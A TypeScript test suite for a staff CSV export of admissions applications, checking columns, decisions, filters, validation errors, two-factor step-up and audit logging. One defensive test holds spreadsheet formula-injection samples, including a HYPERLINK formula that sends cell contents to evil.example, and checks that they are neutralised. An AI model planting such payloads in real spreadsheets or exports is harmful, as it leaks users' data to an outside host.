import { randomBytes } from 'node:crypto';
import { and, eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { APPLICATION_API_MESSAGES, EXPORT_COLUMNS_MAX } from '../../shared/staff/application-api';
import {
  DEFAULT_EXPORT_COLUMNS,
  EXPORT_DECISION_COLUMNS,
  type ExportColumnsResponse,
} from '../../shared/staff/export-columns';
import { UNKNOWN_FIELD_MESSAGE } from '../../shared/validation/field-errors';
import { UNSTORABLE_TEXT_MESSAGE } from '../../shared/validation/storable-text';
import { applicationReceipts, applicationSisIds, auditEvents, decisions } from '../db/schema';
import { CSV_BOM } from '../http/csv-writer';
import { STEP_UP_REQUIRED_CODE } from '../staff/staff-sessions';
import { signedInApplicant } from '../test/accounts-helpers';
import { insertApplications, parseCsv } from '../test/export-helpers';
import { type SignedInStaff, signedInStaff } from '../test/staff-sign-in';
import { buildTestApp, testDatabaseOf } from '../test/test-app';
import { databaseKinds } from '../test/test-database';
import { EXPORT_NOT_LIST_PARAMETER_MESSAGE } from './export-query';
import { EXPORT_COLUMNS_TOO_MANY_MESSAGE } from './exports-routes';

const CSV = '/staff/api/exports/applications.csv';

describe.each(databaseKinds)('the CSV export of the list on %s', (kind) => {
  let app: FastifyInstance;
  let reader: SignedInStaff;

  beforeAll(async () => {
    app = await buildTestApp(kind);
    reader = await signedInStaff(app, { role: 'reader' });
  });
  afterAll(async () => {
    await app.close();
  });

  const get = (url: string, cookie = reader.cookie) =>
    app.inject({ method: 'GET', url, headers: { cookie } });
  const newTag = () => `t${randomBytes(4).toString('hex')}`;

  async function exported(query: string) {
    const response = await get(`${CSV}?${query}`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.body.startsWith(CSV_BOM)).toBe(true);
    const [header, ...rows] = parseCsv(response.body.slice(CSV_BOM.length));
    return { response, header: header as string[], rows };
  }

  async function exportAudits(staffId = reader.staffId) {
    return testDatabaseOf(app)
      .select()
      .from(auditEvents)
      .where(
        and(eq(auditEvents.actorId, staffId), eq(auditEvents.action, 'applications.export_csv')),
      );
  }

  it('offers its columns: the fixed ones, answers with their labels, the checklist', async () => {
    const response = await get('/staff/api/exports/columns');
    expect(response.statusCode).toBe(200);
    const body: ExportColumnsResponse = response.json();
    const ids = body.columns.map((column) => column.id);
    expect(ids).toContain('applied_major');
    expect(ids).toContain('applied_major_desc');
    expect(ids).toContain('checklist');
    expect(ids).toContain('checklist_missing');
    expect(body.default_columns).toEqual([...DEFAULT_EXPORT_COLUMNS]);
    expect(body.max).toBe(EXPORT_COLUMNS_MAX);
  });

  it('streams the chosen columns of every match, with a BOM, codes and labels, statuses and dates', async () => {
    const tag = newTag();
    const [started, submitted] = await insertApplications(app, tag, [
      { answers: { first_name: 'Ana', last_name: 'Ruiz', gender: 'F', gender_desc: 'Female' } },
      {
        answers: {
          first_name: 'Ben',
          last_name: 'Okafor',
          applied_major: 'PSY',
          applied_major_desc: 'Psychology',
        },
        status: 'submitted',
        submittedAt: '2026-02-03T04:05:06.000Z',
      },
    ]);
    const { response, header, rows } = await exported(
      `term=${tag}&sort=name&columns=id,first_name,last_name,status,submitted_at,last_activity,gender,gender_desc,applied_major,applied_major_desc`,
    );
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="applications-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(header).toEqual([
      'id',
      'first_name',
      'last_name',
      'status',
      'submitted_at',
      'last_activity',
      'gender',
      'gender_desc',
      'applied_major',
      'applied_major_desc',
    ]);
    expect(rows).toEqual([
      [
        submitted,
        'Ben',
        'Okafor',
        'submitted',
        '2026-02-03T04:05:06.000Z',
        '2026-01-02T10:00:00.000Z',
        '',
        '',
        'PSY',
        'Psychology',
      ],
      [started, 'Ana', 'Ruiz', 'started', '', '2026-01-01T10:00:00.000Z', 'F', 'Female', '', ''],
    ]);
    const [audit] = await exportAudits();
    expect(audit?.detail).toMatchObject({
      filters: { term: [tag] },
      q: '',
      columns: header,
      rows: 2,
    });
  });

  it('writes the confirmation number, the decision, its release and the reply, in the order chosen', async () => {
    const tag = newTag();
    const submittedAt = '2026-02-03T04:05:06.000Z';
    const [replied, scheduled] = await insertApplications(app, tag, [
      { answers: { first_name: 'Gia', last_name: 'Abbott' }, status: 'submitted', submittedAt },
      { answers: { first_name: 'Hal', last_name: 'Brandt' }, status: 'submitted', submittedAt },
      { answers: { first_name: 'Ivo', last_name: 'Costa' } },
    ]);
    const db = testDatabaseOf(app);
    await db.insert(applicationReceipts).values(
      [replied, scheduled].map((accountId, index) => ({
        accountId: accountId as string,
        number: `APP-${tag}-${index + 1}`,
        cycle: tag,
        sequence: index + 1,
        submittedAt: new Date(submittedAt),
        fingerprint: 'f'.repeat(64),
      })),
    );
    await db.insert(decisions).values([
      {
        accountId: replied as string,
        code: 'admit',
        recordedByLabel: 'reader@example.edu',
        releaseAt: new Date('2026-03-01T12:00:00Z'),
        releasedAt: new Date('2026-03-01T12:00:05Z'),
        reply: 'accepted',
        repliedAt: new Date('2026-03-04T09:00:00Z'),
      },
      {
        accountId: scheduled as string,
        code: 'waitlist',
        recordedByLabel: 'reader@example.edu',
        releaseAt: new Date('2027-03-01T17:00:00Z'),
      },
    ]);
    // Not the catalogue's order: the reader's.
    const columns = [
      'replied_at',
      'last_name',
      'decision_label',
      'confirmation_number',
      'reply',
      'decision',
      'decision_released_at',
      'decision_release_at',
    ];
    const { header, rows } = await exported(`term=${tag}&sort=name&columns=${columns.join(',')}`);
    expect(header).toEqual(columns);
    expect(rows).toEqual([
      [
        '2026-03-04T09:00:00.000Z',
        'Abbott',
        'Admit',
        `APP-${tag}-1`,
        'accepted',
        'admit',
        '2026-03-01T12:00:05.000Z',
        '',
      ],
      ['', 'Brandt', 'Waitlist', `APP-${tag}-2`, '', 'waitlist', '', '2027-03-01T17:00:00.000Z'],
      ['', 'Costa', '', '', '', '', '', ''],
    ]);
    const catalogue = (await get('/staff/api/exports/columns')).json() as ExportColumnsResponse;
    expect(
      catalogue.columns.filter((column) => column.group === 'decision').map((column) => column.id),
    ).toEqual([...EXPORT_DECISION_COLUMNS]);
  });

  it("writes the student information system's id once it is written back", async () => {
    const tag = newTag();
    const [withId] = await insertApplications(app, tag, [
      {
        answers: { last_name: 'Abbott' },
        status: 'submitted',
        submittedAt: '2026-02-03T04:05:06Z',
      },
      {
        answers: { last_name: 'Brandt' },
        status: 'submitted',
        submittedAt: '2026-02-03T04:05:06Z',
      },
    ]);
    const sisId = `S-${tag}`;
    await testDatabaseOf(app)
      .insert(applicationSisIds)
      .values({ accountId: withId as string, sisId, setByLabel: 'Banner nightly' });
    const { header, rows } = await exported(`term=${tag}&sort=name&columns=last_name,sis_id`);
    expect(header).toEqual(['last_name', 'sis_id']);
    expect(rows).toEqual([
      ['Abbott', sisId],
      ['Brandt', ''],
    ]);
    // The export's search finds the application by its SIS id as the list's does.
    const found = await exported(`q=${encodeURIComponent(sisId)}&columns=last_name,sis_id`);
    expect(found.rows).toEqual([['Abbott', sisId]]);
  });

  it('neutralises anything a spreadsheet would run as a formula', async () => {
    const tag = newTag();
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '+1+2',
      '-2+3',
      '@SUM(A1)',
      '\tTab',
      '\rReturn',
    ];
    await insertApplications(
      app,
      tag,
      hostile.map((first_name, i) => ({ answers: { first_name, last_name: `L${i}` } })),
    );
    const { rows } = await exported(`term=${tag}&sort=name&columns=first_name,last_name`);
    expect(rows).toEqual(hostile.map((first_name, i) => [`'${first_name}`, `L${i}`]));
  });

  it('holds only the applications the filters and the search find, and the default columns', async () => {
    const tag = newTag();
    const [, submitted] = await insertApplications(app, tag, [
      { answers: { first_name: 'Carla', last_name: 'Nguyen' } },
      {
        answers: { first_name: 'Dario', last_name: 'Nguyen' },
        status: 'submitted',
        submittedAt: '2026-03-01T00:00:00Z',
      },
      {
        answers: { first_name: 'Elif', last_name: 'Demir' },
        status: 'submitted',
        submittedAt: '2026-03-02T00:00:00Z',
      },
    ]);
    const filtered = await exported(`term=${tag}&status=submitted&q=nguyen`);
    expect(filtered.header).toEqual([...DEFAULT_EXPORT_COLUMNS]);
    expect(filtered.rows.map((row) => row[0])).toEqual([submitted]);
    const all = await exported(`term=${tag}&columns=last_name`);
    expect(all.rows.map((row) => row[0]).sort()).toEqual(['Demir', 'Nguyen', 'Nguyen']);
  });

  it('writes the checklist columns from the checklist', async () => {
    const tag = newTag();
    await insertApplications(app, tag, [{ answers: { first_name: 'Fay' }, status: 'submitted' }]);
    const { header, rows } = await exported(
      `term=${tag}&columns=missing_items,checklist,checklist_missing,checklist:fee`,
    );
    expect(header).toEqual(['missing_items', 'checklist', 'checklist_missing', 'checklist:fee']);
    const [missing, summary, missingNames] = rows[0] as string[];
    const items = summary === '' ? [] : (summary as string).split('; ');
    for (const item of items) expect(item).toMatch(/^.+: (Awaiting|Received|Waived)$/);
    expect(Number(missing)).toBe(items.filter((item) => item.endsWith(': Awaiting')).length);
    expect(missingNames === '' ? 0 : (missingNames as string).split('; ').length).toBe(
      Number(missing),
    );
  });

  it('refuses bad input with 400 and a clear message, exporting nothing', async () => {
    const before = (await exportAudits()).length;
    const cases: Array<[string, string, string]> = [
      ['colour=blue', 'colour', UNKNOWN_FIELD_MESSAGE],
      ['sort=password', 'sort', 'Sort by one of'],
      ['status=approved', 'status.0', 'A status is one of'],
      ['page_size=1000', 'page_size', EXPORT_NOT_LIST_PARAMETER_MESSAGE],
      ['page=2', 'page', EXPORT_NOT_LIST_PARAMETER_MESSAGE],
      ['q=a%00b', 'query.q', UNSTORABLE_TEXT_MESSAGE],
      [`q=${'x'.repeat(10_000)}`, 'q', 'Search with at most'],
      ['columns=id,password', 'columns.password', APPLICATION_API_MESSAGES.columns],
      ['columns=', 'columns', APPLICATION_API_MESSAGES.columns],
    ];
    for (const [query, key, message] of cases) {
      const response = await get(`${CSV}?${query}`);
      expect(response.statusCode, query).toBe(400);
      const body = response.json() as { message: string; errors: Record<string, string[]> };
      expect(body.errors[key]?.[0], `${query}: ${response.body}`).toContain(message);
    }
    const known = (
      (await get('/staff/api/exports/columns')).json() as ExportColumnsResponse
    ).columns.map((column) => column.id);
    const items = Array.from({ length: EXPORT_COLUMNS_MAX }, (_, n) => `checklist:tenant:x${n}`);
    const tooMany = [...known, ...items].slice(0, EXPORT_COLUMNS_MAX + 1);
    const many = await get(`${CSV}?columns=${tooMany.join(',')}`);
    expect(many.statusCode).toBe(400);
    expect(many.json().message).toBe(EXPORT_COLUMNS_TOO_MANY_MESSAGE);
    expect((await exportAudits()).length).toBe(before);
  });

  it('needs a fresh second factor; a reader may export, an applicant may not', async () => {
    const stale = await signedInStaff(app, { role: 'reader', fresh2fa: false });
    const refused = await get(CSV, stale.cookie);
    expect(refused.statusCode).toBe(403);
    expect(refused.json().code).toBe(STEP_UP_REQUIRED_CODE);
    expect(await exportAudits(stale.staffId)).toEqual([]);

    const applicant = await signedInApplicant(app, `csv-applicant-${kind}@example.com`);
    expect((await get(CSV, applicant)).statusCode).toBe(401);
    expect((await get(`${CSV}?columns=id`)).statusCode).toBe(200);
  });
});
